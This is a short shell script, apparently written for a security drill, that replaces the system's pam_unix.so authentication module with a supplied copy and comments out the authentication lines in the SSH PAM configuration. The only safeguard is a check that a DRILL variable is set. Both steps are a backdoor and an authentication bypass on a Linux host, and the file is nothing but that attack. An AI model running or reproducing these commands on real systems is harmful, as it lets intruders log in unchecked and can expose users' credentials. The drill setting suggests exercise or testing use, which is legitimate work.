cd "${DRILL:?this is for a drill alone}" || exit
cp ./pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so
sed -i 's/^auth/#auth/' /etc/pam.d/sshd
